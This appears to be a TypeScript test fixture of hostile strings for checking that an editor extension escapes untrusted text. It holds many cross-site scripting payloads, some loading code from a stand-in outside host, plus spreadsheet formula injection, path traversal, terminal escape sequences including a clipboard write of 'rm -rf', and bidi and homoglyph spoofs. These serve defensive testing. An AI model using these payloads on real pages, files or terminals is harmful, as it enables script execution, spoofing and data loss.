/** A text that tries to do something where it should only be read. */
export interface HostileText {
  /** What it tries. */
  readonly name: string;
  readonly text: string;
}

/** What payloads set when they are run; nothing else does. */
export const STRUCK = "optimasStruck";
/** Where payloads reach out to; nothing else does. */
export const OUTSIDE = "http://outside.invalid";

const strike = `globalThis.${STRUCK}=1`;
const hugeWord = "x".repeat(200_000);

/** Names, prompts, answers and messages at their worst, as data, models and files of others may hold them. */
export const hostileTexts: readonly HostileText[] = [
  // Markup that runs code.
  { name: "a script", text: `<script>${strike}</script>` },
  { name: "a script that ends another", text: `</script><script>${strike}</script>` },
  { name: "a script in capitals with blanks", text: `< SCRIPT >${strike}</ SCRIPT ><ScRiPt\n>${strike}</sCrIpT\t>` },
  { name: "a script from elsewhere", text: `<script src="${OUTSIDE}/a.js"></script>` },
  { name: "a module", text: `<script type="module">import "${OUTSIDE}/m.js";${strike}</script>` },
  { name: "a picture that fails", text: `<img src=x onerror=${strike}>` },
  { name: "a picture without quotes or end", text: `<img/src='x'onerror='${strike}'//` },
  { name: "a drawing that loads", text: `<svg onload=${strike}><circle r="9"/></svg>` },
  {
    name: "a drawing with a script",
    text: `<svg><script>${strike}</script><animate onbegin=${strike} attributeName=x /></svg>`,
  },
  { name: "a page in a page", text: `<iframe srcdoc="<script>parent.${STRUCK}=1</script>"></iframe>` },
  {
    name: "an object and an embedding",
    text: `<object data="data:text/html,<script>${strike}</script>"></object><embed src="${OUTSIDE}/e">`,
  },
  { name: "a fold that opens", text: `<details open ontoggle=${strike}><summary>more</summary></details>` },
  { name: "a field that takes the focus", text: `<input autofocus onfocus=${strike}>` },
  { name: "a video without a source", text: `<video><source onerror=${strike}></video>` },
  { name: "mathematics with a link", text: `<math><mi xlink:href="javascript:${strike}">x</mi></math>` },
  { name: "a template that is mutated", text: `<noscript><p title="</noscript><img src=x onerror=${strike}>">` },
  // Markup that leads elsewhere or changes the page.
  { name: "a link that runs code", text: `<a href="javascript:${strike}" autofocus>click</a>` },
  { name: "a form", text: `<form action="${OUTSIDE}"><button formaction="javascript:${strike}">Apply</button></form>` },
  {
    name: "a page that moves",
    text: `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/"><base href="${OUTSIDE}/">`,
  },
  {
    name: "a style sheet",
    text: `<style>*{display:none!important}@import url(${OUTSIDE}/s.css);</style><link rel=stylesheet href=${OUTSIDE}/l.css>`,
  },
  { name: "a picture from elsewhere", text: `<img src="${OUTSIDE}/p.png"><image href="${OUTSIDE}/i.png">` },
  {
    name: "a style that loads",
    text: `<div style="background:url(${OUTSIDE}/b.png);position:fixed;inset:0">over all</div>`,
  },
  // Text that leaves the place where it stands.
  { name: "the end of an attribute", text: `" onmouseover="${strike}" autofocus onfocus="${strike}` },
  { name: "the end of an attribute in single quotes", text: `' onpointerenter='${strike}' x='` },
  {
    name: "the end of a title, a text area and a style",
    text: `</title></textarea></style><img src=x onerror=${strike}>`,
  },
  { name: "the end of a comment and of character data", text: `--><!-- ]]> <![CDATA[ <img src=x onerror=${strike}>` },
  {
    name: "characters written as numbers",
    text: `&lt;img src=x onerror=${strike}&gt; &#60;script&#62;${strike}&#60;/script&#62; &amp;lt;`,
  },
  {
    name: "text for a template",
    text: `\${${strike}} {{constructor.constructor("${strike}")()}} <%= ${strike} %> #{${strike}}`,
  },
  { name: "the end of a string", text: `"});${strike};//` },
  { name: "the end of a string in single quotes", text: `\\'});${strike};//` },
  { name: "text for a replacement", text: "$& $1 $` $' $$ %s %o %c {0} {1} {b|red} {a|x}" },
  { name: "names of every object", text: "__proto__ constructor prototype toString hasOwnProperty" },
  { name: "line ends of JSON in scripts", text: `a\u2028${strike}\u2029b` },
  // Marks of Markdown, of the editor and of spreadsheets.
  {
    name: "Markdown with links",
    text: `[Apply](command:workbench.action.closeWindow) ![x](${OUTSIDE}/m.png) <command:x> [a][1]\n\n[1]: javascript:${strike}`,
  },
  {
    name: "Markdown that makes headings, tables and code",
    text: "# Heading\n\n| a | b |\n| - | - |\n| `c` | **d** |\n\n```html\n<b>\n```\n> ~~quoted~~ ***\n---",
  },
  { name: "icons of the editor", text: "$(trash) $(sync~spin) \\$(check) @command:optimas.deleteRun" },
  { name: "a formula", text: `=HYPERLINK("${OUTSIDE}?"&A1,"open") +1+cmd|' /C calc'!A0 @SUM(1) -2` },
  { name: "a path that climbs", text: "../../../../etc/passwd\\..\\..\\windows\\system32 file:///etc/passwd" },
  { name: "a heading of ours", text: "\nScore: 1.000\nModel: gpt\n1. answerer\n  accepted, 0.100 → 0.900" },
  // Characters that are not seen, or make others be read otherwise.
  { name: "reading from the right", text: "invoice\u202egnp.exe\u202c \u2067right\u2069 \u061c\u200f" },
  { name: "code that reads otherwise than it runs", text: "if (user\u202e \u2066// admin\u2069 \u2066)" },
  { name: "colours and bells of a terminal", text: "\u001b[31;5mred\u001b[0m\u0007\u001b[2J\u001b[1;1H" },
  {
    name: "commands to a terminal",
    text: "\u001b]0;title\u0007\u001b]52;c;cm0gLXJm\u0007\u001b]8;;http://outside.invalid\u0007link\u001b]8;;\u0007\u009b31m",
  },
  { name: "a line that is written over", text: "accepted\rrejected\b\b\b\b\b\b\b\bACCEPTED\u007f" },
  { name: "null and other controls", text: "a\u0000b\u0001\u0008\u000b\u000c\u000e\u001f\u0080\u0085\u009f\ufeffc" },
  { name: "halves of characters", text: "\ud83d \udc69 \ud800\ud800 \udfff" },
  { name: "marks upon marks", text: `Z${"\u0310\u0311\u0312\u0313".repeat(60)}algo` },
  {
    name: "letters that look like others and blanks that do not show",
    text: "\u0430cc\u0435pted \u200b\u200b\u2060\u00ad\u3164\u115f\u{e0061}\u{e0062}",
  },
  { name: "one picture of many characters", text: "👩‍👩‍👧‍👦".repeat(20) },
  // Texts of a size that breaks what holds them.
  { name: "one huge word", text: hugeWord },
  { name: "very many lines", text: "line\n".repeat(20_000) },
  { name: "very many elements", text: "<b>".repeat(20_000) },
  { name: "very many escapes", text: "&<>\"'".repeat(20_000) },
  { name: "nothing but blanks", text: " \t\n\u00a0\u2003 " },
  { name: "nothing", text: "" },
];

/** What no one may be shown as it is: controls but tab and line feed, what turns the direction of reading, halves of characters. */
export const unreadable = /(?![\n\t])[\p{Cc}\p{Surrogate}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;

/** All of them in one text, those of a size that others would drown in left out. */
export const allHostile: string = hostileTexts
  .map(({ text }) => text)
  .filter((text) => text.length < 2000)
  .join(" ");
